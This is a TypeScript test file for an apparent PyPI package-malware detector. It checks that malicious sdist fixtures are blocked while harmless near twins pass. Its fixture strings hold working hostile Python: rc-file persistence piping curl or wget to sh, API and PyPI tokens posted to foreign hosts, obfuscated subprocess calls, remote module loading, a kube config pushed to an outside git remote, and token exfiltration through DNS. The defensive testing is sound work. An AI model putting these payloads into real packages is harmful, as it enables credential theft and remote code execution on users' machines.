/**
 * The `pypi22` round (docs/package-analysis.md, "Python, pypi22"): behaviours written here, in forms
 * the blind sets do not use yet (test/support/pypi-variants-pypi22.ts), each family with its honest
 * near twins. Everything is packed into in-memory tarballs; nothing is run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { loadParsers } from '../../shared/parsers/tree-sitter.js';
import { declaredEntries, pythonEntryPoints } from '../../shared/packages/analysis/entrypoints.js';
import { analysePython } from '../../shared/packages/analysis/python/flow.js';
import { classifyFileRoles, pythonAutoSeeds, pythonInstallSeeds } from '../../shared/packages/analysis/roles.js';
import { blocked, honest, rate } from '../support/pypi-variant-rating.js';
import {
  PYPI22_AUTO,
  PYPI22_AUTO_TWINS,
  PYPI22_EXFIL,
  PYPI22_EXFIL_TWINS,
  PYPI22_IMPORT,
  PYPI22_IMPORT_TWINS,
  PYPI22_MORE,
  PYPI22_MORE_TWINS,
  PYPI22_OBFUSCATION,
  PYPI22_OBFUSCATION_TWINS,
  PYPI22_RULE3_TWINS,
  PYPI22_SPAWN,
  PYPI22_SPAWN_TWINS,
  PYPI22_TOKEN,
  PYPI22_TOKEN_TWINS,
  PYPI22_TWINS,
  PYPI22_VARIANTS,
  sdist,
} from '../support/pypi-variants-pypi22.js';
import type { PypiVariant } from '../support/pypi-variants-set1.js';

const by = (list: readonly PypiVariant[]) => (id: string): PypiVariant => {
  const v = list.find((x) => x.id === id);
  assert.ok(v, id);
  return v!;
};
const v = by(PYPI22_VARIANTS);

test('every variant written for this round is BLOCKED, every twin neither BLOCKED nor CAUTION', async () => {
  const misses: string[] = [];
  for (const x of PYPI22_VARIANTS) {
    const r = await rate(x);
    if (r.level !== 'BLOCKED') misses.push(`${x.id}: ${r.level}`);
  }
  const bad: string[] = [];
  for (const x of PYPI22_TWINS) {
    const r = await rate(x);
    if (r.level === 'BLOCKED' || r.level === 'CAUTION') bad.push(`${x.id}: ${r.level} (${r.rules.join(', ')})`);
  }
  assert.equal(misses, []);
  assert.equal(bad, []);
  assert.is(PYPI22_VARIANTS.length, PYPI22_AUTO.length + PYPI22_TOKEN.length + PYPI22_OBFUSCATION.length + PYPI22_IMPORT.length + PYPI22_SPAWN.length + PYPI22_EXFIL.length + PYPI22_MORE.length);
  assert.is(PYPI22_TWINS.length, PYPI22_AUTO_TWINS.length + PYPI22_TOKEN_TWINS.length + PYPI22_OBFUSCATION_TWINS.length + PYPI22_IMPORT_TWINS.length + PYPI22_SPAWN_TWINS.length + PYPI22_EXFIL_TWINS.length + PYPI22_MORE_TWINS.length);
});

// ---- A. files pytest and the interpreter import by themselves ---------------------------------------------

test('roles: a root conftest.py, a top-level sitecustomize.py and pytest11 modules run without being asked', () => {
  const root = 'p-1.0/';
  const paths = new Set([`${root}setup.py`, `${root}conftest.py`, `${root}tests/conftest.py`, `${root}sitecustomize.py`, `${root}pkg/sitecustomize.py`, `${root}pkg/__init__.py`, `${root}pkg/plugin.py`]);
  assert.equal(pythonAutoSeeds(root, paths), [`${root}conftest.py`]);
  assert.ok(pythonInstallSeeds(root, paths, undefined).includes(`${root}sitecustomize.py`));
  assert.not.ok(pythonInstallSeeds(root, paths, undefined).includes(`${root}pkg/sitecustomize.py`));
  const withPth = new Set([...paths, `${root}src/a.pth`, `${root}tests/data/b.pth`]);
  const pth = pythonInstallSeeds(root, withPth, undefined, undefined, "setup(data_files=[('', ['src/a.pth'])])");
  assert.ok(pth.includes(`${root}src/a.pth`));
  assert.not.ok(pth.includes(`${root}tests/data/b.pth`));
  const roles = classifyFileRoles({ registry: 'pypi', root, paths, importsOf: new Map(), installSeeds: pythonInstallSeeds(root, paths, undefined), importSeeds: [], autoSeeds: pythonAutoSeeds(root, paths) });
  assert.is(roles.get(`${root}conftest.py`), 'import-time');
  assert.is(roles.get(`${root}tests/conftest.py`), 'test');
  assert.is(roles.get(`${root}sitecustomize.py`), 'install-time');
  // Entry points named as a module (no attribute), in setup.cfg, pyproject.toml and entry_points.txt.
  const manifests = new Map([
    [`${root}setup.cfg`, '[metadata]\nname = p\n\n[options.entry_points]\npytest11 =\n    a = pkg.plugin\nconsole_scripts =\n    p = pkg.cli:main\n[flake8]\nmax-line-length = 100\n'],
    [`${root}pyproject.toml`, '[project.entry-points.pytest11]\nb = "pkg.other"\n\n[project.entry-points]\nflake8_extension = { X1 = "pkg.x1" }\n\n[project.scripts]\nq = "pkg.q:run"\n[tool.black]\nline-length = 100\n'],
    [`${root}x.egg-info/entry_points.txt`, '[pytest11]\nc = pkg.third\n'],
  ]);
  assert.equal(
    pythonEntryPoints(root, manifests).map((e) => `${e.group}:${e.module}`).sort(),
    ['console_scripts:pkg.cli', 'console_scripts:pkg.q', 'flake8_extension:pkg.x1', 'pytest11:pkg.other', 'pytest11:pkg.plugin', 'pytest11:pkg.third'],
  );
  assert.ok(declaredEntries('pypi', root, manifests).includes(`${root}pkg/plugin.py`));
});

test('setup.py entry_points are read from the parsed call (a dict of lists, a name, an INI string)', async () => {
  await loadParsers();
  const eps = (src: string) => analysePython(src)!.entryPoints.map((e) => `${e.group}:${e.module}`);
  assert.equal(eps("from setuptools import setup\nsetup(name='x', entry_points={'pytest11': ['t = x.plug'], 'console_scripts': ['x=x.cli:main']})\n"), ['pytest11:x.plug', 'console_scripts:x.cli']);
  assert.equal(eps("import setuptools\nEP = {'pytest11': 'a = x.p'}\nsetuptools.setup(entry_points=EP)\n"), ['pytest11:x.p']);
  assert.equal(eps("from setuptools import setup\nsetup(entry_points='''\n[pytest11]\nz = x.z\n''')\n"), ['pytest11:x.z']);
});

test('a root conftest.py, a sitecustomize.py and pytest11 plugins that act when imported are BLOCKED', async () => {
  // Persistence from a root conftest.py's module-level code (was a test file: LOW).
  await blocked(v('tidyfmt'), 'persistence_remote');
  // An inline interpreter started from a pytest hook of a root conftest.py (pytest calls the hook).
  await blocked(v('quietlog'), 'shell_remote_command');
  await blocked(v('envcolor'), 'interpreter_inline_spawn');
  // A pytest11 plugin named as a module in setup.cfg, and one declared in setup.py's entry_points.
  await blocked(v('pytest-timingx'), 'persistence_write');
  await blocked(v('flake8-tabsx'), 'interpreter_inline_spawn');
  // A .pth file under src/ that setup.py's data_files ships into site-packages.
  await blocked(v('fastpath-init'), 'interpreter_inline_spawn');
  // Another shape: pyproject's inline entry-point table; the conftest.py under src/.
  await blocked(
    sdist('pytest-colorx', {
      'setup.py': 'from setuptools import setup\nsetup()\n',
      'pyproject.toml': '[project]\nname = "pytest-colorx"\nversion = "1.0.0"\n\n[project.entry-points]\npytest11 = { colorx = "pytest_colorx" }\n',
      'pytest_colorx/__init__.py': "import os\n\n\ndef pytest_configure(config):\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('\\nalias sudo=\"sudo -E\"\\n')\n",
    }),
    'persistence_write',
  );
  await blocked(
    sdist('srcmod', {
      'src/conftest.py': "import os\n\nwith open(os.path.expanduser('~/.zshrc'), 'a') as f:\n    f.write('\\nwget -qO- http://198.51.100.2/z | sh\\n')\n",
    }),
    'persistence_remote',
  );
});

test('a conftest.py under tests/, and honest root conftest.py / sitecustomize / pytest plugins, are not blocked', async () => {
  for (const x of PYPI22_AUTO_TWINS) await honest(x);
  // The same payload as tidyfmt in tests/conftest.py: it runs only with those tests (LOW).
  const r = await rate(
    sdist('tidyfmt2', {
      'tests/conftest.py': "import os\n\nwith open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n    fh.write('\\ncurl -fsSL http://198.51.100.23/s.sh | sh\\n')\n",
    }),
  );
  assert.not.ok(r.level === 'BLOCKED' || r.level === 'CAUTION', r.level);
});

// ---- B. one service's token sent elsewhere -----------------------------------------------------------------

test('one service token sent to a host that is not its service is BLOCKED (service_token_exfil)', async () => {
  await blocked(v('gh-badge'), 'service_token_foreign_host');
  await blocked(v('ghx-utils'), 'service_token_foreign_host');
  await blocked(v('s3-fastsync'), 'service_token_exfil');
  await blocked(v('hf-cachetool'));
  // Another shape: an OpenAI key in the Authorization header of a request to another API; a PyPI token to a non-index host.
  await blocked(
    sdist('llm-cachex', {
      'llm_cachex/__init__.py':
        "import os, httpx\n\n\ndef warm():\n    key = os.getenv('OPENAI_API_KEY')\n    httpx.post('https://api.llm-cachex-stats.example/warm', headers={'Authorization': 'Bearer ' + key})\n\n\nwarm()\n",
    }),
    'service_token_foreign_host',
  );
  // A package index token posted from setup.py to a host that is no index.
  await blocked(
    sdist('twine-fast', {
      'setup.py': "import os, requests\nfrom setuptools import setup\n\nif os.environ.get('TWINE_PASSWORD'):\n    requests.post('https://upload.twine-fast-mirror.example/legacy/', data={'p': os.environ['TWINE_PASSWORD']})\nsetup(name='twine-fast', version='1.0.0')\n",
    }),
    'service_token_foreign_host',
  );
});

test('one service token sent to its own service, to the package own declared service, or by a function on request, is not blocked', async () => {
  for (const x of PYPI22_TOKEN_TWINS) await honest(x);
  // A function the user calls that hands the GitHub token to a coverage service (LOW in runtime code); the same at import is BLOCKED.
  const upload = "import os, requests\n\n\ndef upload(report):\n    return requests.post('https://api.covstats.example/jobs', json={'repo_token': os.environ.get('GITHUB_TOKEN'), 'report': report})\n";
  await honest(sdist('covsend', { 'covsend/__init__.py': upload }));
  await blocked(sdist('covsend2', { 'covsend2/__init__.py': `${upload}\nupload({})\n` }), 'service_token_foreign_host');
  // An unknown service's token (the service is not known) sent to a host name: not judged.
  await honest(
    sdist('acme-client', {
      'acme_client/__init__.py': "import os, requests\n\n\ndef ping():\n    return requests.get('https://api.acmecloud.example/v1/ping', headers={'X-Token': os.environ.get('ACME_API_TOKEN', '')})\n",
    }),
  );
  // A local agent on the loopback address.
  await honest(
    sdist('gh-agent-client', {
      'gh_agent_client/__init__.py': "import os, requests\n\n\ndef hand_over():\n    return requests.post('http://127.0.0.1:8732/token', json={'t': os.environ.get('GITHUB_TOKEN')})\n",
    }),
  );
});

// ---- C. obfuscation ------------------------------------------------------------------------------------------

test('decoded code run through rot13, zlib + marshal, decoded attribute chains and builtins lookups is BLOCKED', async () => {
  await blocked(v('colorama-ext'), 'decoded_code_exec');
  await blocked(v('tinyhash'), 'decoded_code_exec');
  await blocked(v('pathtools2'), 'decoded_code_exec');
  await blocked(v('jsonfast3'), 'decoded_code_exec');
  await blocked(v('yamlite'), 'decoded_code_exec');
  // Another shape: the process starter's names decoded from hex and base32 by a def of the file.
  await blocked(
    sdist('hexrun', {
      'hexrun/__init__.py':
        "import base64, binascii\n\n\ndef _n(s):\n    return binascii.unhexlify(s).decode()\n\n\nmod = __import__(_n('73756270726f63657373'))\ngetattr(mod, base64.b32decode('MNQWY3A=').decode())(['sh', '-c', base64.b64decode('Y3VybCBodHRwOi8vMTk4LjUxLjEwMC4zL3ggfCBzaA==').decode()])\n",
    }),
  );
});

test('decoded names resolve: getattr(__import__(decoded), decoded) names os.system', async () => {
  await loadParsers();
  const f = analysePython("import base64 as b\n_d = lambda s: b.b64decode(s).decode()\nx = getattr(__import__(_d('b3M=')), _d('c3lzdGVt'))\nx('true')\ny = getattr(__import__(bytes.fromhex('7375').decode() + 'bprocess'), 'nepO'[::-1])\n")!;
  assert.ok(f.calls.has('os.system'), [...f.calls].join(' '));
  const g = analysePython("import codecs\nf = getattr(__import__(codecs.decode('bf', 'rot13')), codecs.decode('cbcra', 'rot_13'))\nf('true')\n")!;
  assert.ok(g.calls.has('os.popen'), [...g.calls].join(' '));
});

test('obfuscation twins: a rot13 codec, a marshalled data table, a decoded-name compatibility alias stay honest', async () => {
  for (const x of PYPI22_OBFUSCATION_TWINS) await honest(x);
});

test('a destination only decoding reveals is never the package own host: a token sent to its namesake site, base64-encoded', async () => {
  const send = (url: string) =>
    sdist('ghstats', { 'ghstats/__init__.py': `import base64, os, requests\n\n_U = ${url}\nrequests.post(_U, json={'t': os.environ.get('GITHUB_TOKEN')})\n` });
  // Written plainly, the site named exactly after the package is its own service (LOW); hidden in base64, it is not.
  await honest(send("'https://ghstats.example/api/v1/sync'"));
  await blocked(send("base64.b64decode('aHR0cHM6Ly9naHN0YXRzLmV4YW1wbGUvYXBpL3YxL3N5bmM=').decode()"), 'service_token_foreign_host');
});

// ---- D. a downloaded module imported -----------------------------------------------------------------------

test('a downloaded module imported (importlib file loader, sys.path + import_module, ModuleType + exec) is BLOCKED', async () => {
  await blocked(v('requestsx'), 'remote_code_exec');
  await blocked(v('numpyx'), 'remote_code_exec');
  await blocked(v('dotenvx'), 'remote_code_exec');
  // Another shape: SourceFileLoader on a file urlretrieve saved.
  await blocked(
    sdist('pipx-helper', {
      'pipx_helper/__init__.py':
        "import importlib.machinery, os, tempfile\nfrom urllib.request import urlretrieve\n\n_p = os.path.join(tempfile.gettempdir(), 'h.py')\nurlretrieve('http://203.0.113.19/h.py', _p)\nimportlib.machinery.SourceFileLoader('h', _p).load_module()\n",
    }),
    'remote_code_exec',
  );
});

test('importlib twins: a local plugin loader, a dataset cache importing its own parsers', async () => {
  for (const x of PYPI22_IMPORT_TWINS) await honest(x);
});

// ---- E. os.popen and pty.spawn ------------------------------------------------------------------------------

test('os.popen of a fetched command, pty.spawn of a socket shell, a joined popen name are BLOCKED', async () => {
  await blocked(v('sysinfo-lite'), 'remote_code_exec');
  await blocked(v('termgrid'), 'reverse_shell');
  await blocked(v('netcheck2'), 'shell_remote_command');
  for (const x of PYPI22_SPAWN_TWINS) await honest(x);
});

// ---- F. DNS and git push ------------------------------------------------------------------------------------

test('secrets, tokens and the environment sent through DNS lookups or a git push are BLOCKED', async () => {
  await blocked(v('dnsfast'), 'dns_exfil_flow');
  await blocked(v('resolvr'), 'dns_exfil_flow');
  await blocked(v('gitsync-tool'));
  await blocked(v('envsnap'), 'env_exfil_flow');
  // The flow reads the push in setup.py too (the pattern finding on the same line is stronger there).
  await loadParsers();
  const setupPy = String(v('gitsync-tool').files['setup.py']);
  assert.ok(analysePython(setupPy)!.findings.some((f) => f.ruleId === 'credential_exfil_flow'));
  // Another shape: a kube config copied into a repository whose remote is added by name, pushed at import.
  await blocked(
    sdist('kubesnap', {
      'kubesnap/__init__.py':
        "import os, shutil, subprocess\n\n_d = os.path.expanduser('~/.cache/kubesnap')\nos.makedirs(_d, exist_ok=True)\nshutil.copyfile(os.path.join(os.path.expanduser('~'), '.kube', 'config'), os.path.join(_d, 'c'))\nsubprocess.run(['git', 'init', '-q'], cwd=_d)\nsubprocess.run(['git', 'remote', 'add', 'o', 'git@git.kubesnap-store.example:u/s.git'], cwd=_d)\nsubprocess.run(['git', 'add', '.'], cwd=_d)\nsubprocess.run(['git', 'commit', '-qm', 'c'], cwd=_d)\nsubprocess.run(['git', 'push', '-q', 'o', 'HEAD'], cwd=_d)\n",
    }),
    'credential_exfil_flow',
  );
  // A DNS lookup whose name carries the GitHub CLI's token file, through getaddrinfo.
  await blocked(
    sdist('ghdns', {
      'ghdns/__init__.py':
        "import os, socket\n\ntry:\n    t = open(os.path.expanduser('~/.config/gh/hosts.yml')).read().encode().hex()[:60]\n    socket.getaddrinfo(t + '.gh.ghdns-cache.example', 53)\nexcept Exception:\n    pass\n",
    }),
    'dns_exfil_flow',
  );
});

test('DNS and git twins: a region resolver, a release helper pushing, a dotfiles sync without keys', async () => {
  for (const x of PYPI22_EXFIL_TWINS) await honest(x);
});

test('second pass: a push through GitPython, a function made by type(lambda), a token in a curl header, the environment in DNS names', async () => {
  await blocked(v('repo-backup'), 'credential_exfil_flow');
  await blocked(v('lazyload3'), 'decoded_code_exec');
  await blocked(v('gh-stars'));
  await blocked(v('envdns'), 'dns_exfil_flow');
  for (const x of PYPI22_MORE_TWINS) await honest(x);
});

// ---- request_command_exec and key_param_exfil (HIGH in runtime code: kept, with a narrower command) -------------

test('a command or code taken from a web request is BLOCKED in runtime code: the whole command, a shell -c, an argv list, request.get_data()', async () => {
  let n = 0;
  const app = (body: string) => sdist(`webhook-${++n}`, { 'webhook_x/app.py': `import os, subprocess\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n\n@app.post('/x')\ndef x():\n    ${body}\n    return 'ok'\n` });
  await blocked(app("os.system(request.headers.get('X-Run'))"), 'request_command_exec');
  await blocked(app("subprocess.Popen(['sh', '-c', request.args['c']])"), 'request_command_exec');
  await blocked(app("subprocess.run(request.json['argv'])"), 'request_command_exec');
  await blocked(app("exec(request.get_data(as_text=True))"), 'request_command_exec');
});

test('a request choosing among a literal table of commands, an API key sent to its service by name: not blocked', async () => {
  for (const x of PYPI22_RULE3_TWINS) await honest(x);
  // A request value handed to a fixed program as an argument still counts (an argument can carry a command:
  // `find -exec`, `awk`, a downloader's URL): a git web viewer passing a path from the query is BLOCKED.
  const r = await rate(
    sdist('gitweb-lite', {
      'gitweb_lite/app.py': "import subprocess\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n\n@app.get('/log')\ndef log():\n    return subprocess.run(['git', 'log', '--oneline', '--', request.args.get('path', '.')], capture_output=True, text=True).stdout\n",
    }),
  );
  assert.is(r.level, 'BLOCKED');
});

test.run();
